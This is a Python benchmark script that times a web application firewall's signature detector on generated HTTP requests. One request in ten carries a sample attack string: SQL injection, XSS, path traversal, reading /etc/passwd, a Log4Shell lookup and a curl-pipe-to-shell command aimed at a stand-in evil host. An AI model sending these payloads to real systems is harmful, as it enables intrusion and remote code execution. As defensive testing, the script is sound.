"""Inspection speed of the signatures detector: requests per second per core over ~1 KB requests.

    .venv/bin/python bench/signatures.py [--seconds 3] [--engine auto|python] [--corpus FILE.jsonl]
    valgrind --tool=callgrind .venv/bin/python bench/signatures.py --loop 2   # then --loop 1: see below

The mix (generated here, seeded): JSON API bodies with prose, names, URLs and markdown; form posts;
GET requests with query strings; realistic browser headers and cookies; one request in ten carries
an attack. Each request is about 1 KB on the wire. Three figures, each the median of 5 timed runs:

    hooks      the detector alone: zones, transforms, the hyperscan scan, confirmation, findings
    pipeline   the same through the engine's request phases (request_headers + request_body,
               evaluator included), as the proxy runs them
    baseline   the pipeline with no detector at all (the engine's own per-request cost)

Times are the process's CPU time (time.process_time), so a busy shared machine slows the run
down but does not inflate the per-request cost much; the CPU reference line shows how fast this
core runs plain Python at the moment (cache and frequency effects remain).

Instructions, which a busy machine does not move: `--loop N` runs the hooks loop N times over the
requests, untimed, and exits. Under `PYTHONHASHSEED=0 valgrind --tool=callgrind`, the total of
`--loop 2` minus that of `--loop 1`, divided by the number of requests, is the cost of one warm pass
per request ("two passes minus one"; start-up and first sightings cancel out).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import statistics
import time
from pathlib import Path
from typing import Any

from bastion.detect.signatures.detector import SignaturesDetector
from bastion.detect.signatures.settings import SignaturesConfig
from bastion.engine.pipeline import Pipeline
from bastion.exchange import Exchange
from bastion.testing import make_config, make_exchange

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
PROSE = [
    "I'd select the blue one, but drop me a line if it's out of stock -- thanks!",
    "Seán O'Brien and Zoë Müller will join the union meeting on Friday at 10:00 (UTC+1).",
    "**Update**: see [the docs](https://docs.example.com/api?version=2&lang=en) for `order_by` usage.",
    "Привет! 你好 🌍 Great product, 5/5 would buy again; shipping was fast & cheap.",
    "Tried `ls -la` on the box and the logs show nothing unusual since the last deploy.",
]
ATTACKS = [
    "1' OR '1'='1' --", "-1 UNION SELECT username, password FROM users--", "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>", "; cat /etc/passwd", "../../../../etc/passwd", "${jndi:ldap://evil.example/a}",
    "http://169.254.169.254/latest/meta-data/", "{{7*7}}", "$(curl http://evil.example/x.sh | sh)",
]


def headers(rng: random.Random, body: bool) -> list[tuple[str, str]]:
    h = [("Host", "api.example.com"), ("User-Agent", UA), ("Accept", "application/json"),
         ("Accept-Language", "en-US,en;q=0.9"), ("Accept-Encoding", "gzip, deflate, br"),
         ("Referer", "https://app.example.com/dashboard?tab=orders"),
         ("Cookie", f"session={rng.getrandbits(128):032x}; theme=dark; _ga=GA1.2.{rng.randint(1, 10**9)}.1700000000"),
         ("Authorization", "Bearer " + "x" * 120), ("X-Request-Id", f"{rng.getrandbits(64):016x}")]
    if body:
        h.append(("Content-Type", "application/json"))
    return h


def make_requests(n: int, seed: int = 7) -> list[tuple[str, str, list[tuple[str, str]], bytes]]:
    rng = random.Random(seed)
    out = []
    for i in range(n):
        text = rng.choice(PROSE)
        if i % 10 == 9:
            text = rng.choice(ATTACKS)
        kind = i % 3
        if kind == 0:
            doc = {"user": {"name": "Sean O'Brien", "email": "sean.obrien+shop@example.com", "bio": text},
                   "items": [{"sku": f"SKU-{rng.randint(1000, 9999)}", "qty": 2, "note": rng.choice(PROSE)}],
                   "avatar": "https://cdn.example.com/u/123/avatar.png", "tags": ["new", "vip"]}
            out.append(("POST", "/api/v1/orders", headers(rng, True), json.dumps(doc).encode()))
        elif kind == 1:
            q = "&".join([f"q={text.replace(' ', '+')}", "page=2", "sort=-created_at", "fields=id,name,price"])
            out.append(("GET", f"/api/v1/search?{q}", headers(rng, False), b""))
        else:
            form = f"comment={text.replace(' ', '+')}&rating=5&name=Zo%C3%AB&redirect=https%3A%2F%2Fexample.com%2Fthanks"
            h = [*headers(rng, False), ("Content-Type", "application/x-www-form-urlencoded")]
            out.append(("POST", "/reviews", h, form.encode()))
    return out


def load_corpus(path: Path) -> list[tuple[str, str, list[tuple[str, str]], bytes]]:
    out = []
    for line in path.read_text(encoding="utf-8").splitlines():
        if line.strip():
            r = json.loads(line)
            out.append((r["method"], r["target"], [tuple(h) for h in r["headers"]], r.get("body", "").encode()))
    return out


def exchanges(reqs: list[tuple[str, str, list[tuple[str, str]], bytes]]) -> list[Exchange]:
    return [make_exchange(m, t, headers=h, body=b, host=None) for m, t, h, b in reqs]


def time_hooks(det: SignaturesDetector, exs: list[Exchange], seconds: float) -> float:
    """Seconds per request, hooks only."""
    done, start = 0, time.process_time()
    while True:
        for ex in exs:
            ex.findings.clear()
            det.request_headers(ex)
            det.request_body(ex)
        done += len(exs)
        elapsed = time.process_time() - start
        if elapsed >= seconds:
            return elapsed / done


async def time_pipeline(p: Pipeline, exs: list[Exchange], seconds: float) -> float:
    done, start = 0, time.process_time()
    while True:
        for ex in exs:
            ex.findings.clear()
            ex.verdict = None
            await p.request_headers(ex)
            await p.request_body(ex)
        done += len(exs)
        elapsed = time.process_time() - start
        if elapsed >= seconds:
            return elapsed / done


def cpu_reference() -> float:
    """CPU milliseconds for 1M iterations of an empty Python loop (how fast this core runs Python now)."""
    start = time.process_time()
    for _ in range(1_000_000):
        pass
    return (time.process_time() - start) * 1000


def median_rate(samples: list[float]) -> str:
    per = statistics.median(samples)
    return f"{1 / per:>10,.0f} req/s   {per * 1e6:7.1f} µs/request"


async def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seconds", type=float, default=3.0, help="total time per figure (split in 5 runs)")
    ap.add_argument("--engine", default="auto", choices=["auto", "hyperscan", "python"])
    ap.add_argument("--corpus", type=Path, default=None, help="a JSONL request corpus instead of the generated mix")
    ap.add_argument("--requests", type=int, default=300)
    ap.add_argument("--loop", type=int, default=0, metavar="N",
                    help="run the hooks loop N times, untimed, and exit (for callgrind, see above)")
    args = ap.parse_args()
    reqs = load_corpus(args.corpus) if args.corpus else make_requests(args.requests)
    sizes = [len(t) + sum(len(k) + len(v) + 4 for k, v in h) + len(b) for _, t, h, b in reqs]
    settings: dict[str, Any] = {"engine": args.engine}
    det = SignaturesDetector(SignaturesConfig(**settings))
    exs = exchanges(reqs)
    if args.loop:
        for _ in range(args.loop):
            for ex in exs:
                ex.findings.clear()
                det.request_headers(ex)
                det.request_body(ex)
        return 0
    config = make_config({"signatures": settings})
    with_sig = Pipeline(config, [det])
    empty = Pipeline(config, [])
    run = args.seconds / 5
    hooks, pipe, base, cpu = [], [], [], []
    for _ in range(5):
        cpu.append(cpu_reference())
        hooks.append(time_hooks(det, exs, run))
        pipe.append(await time_pipeline(with_sig, exs, run))
        base.append(await time_pipeline(empty, exs, run))
    await time_pipeline(with_sig, exs, 0.0)  # one last pass with the detector: the verdicts counted below
    blocked = sum(1 for ex in exs if ex.verdict is not None and ex.verdict.blocks)
    print(f"signatures inspection: {len(reqs)} requests, median size {statistics.median(sizes):.0f} B, "
          f"{det.rule_count} rules, engine {det.request_matcher.engine}, {blocked} blocked")
    print(f"  hooks     {median_rate(hooks)}")
    print(f"  pipeline  {median_rate(pipe)}")
    print(f"  baseline  {median_rate(base)}   (engine without detectors)")
    print(f"  cpu reference: {statistics.median(cpu):.1f} ms CPU per 1M empty Python loop iterations")
    return 0


if __name__ == "__main__":
    raise SystemExit(asyncio.run(main()))
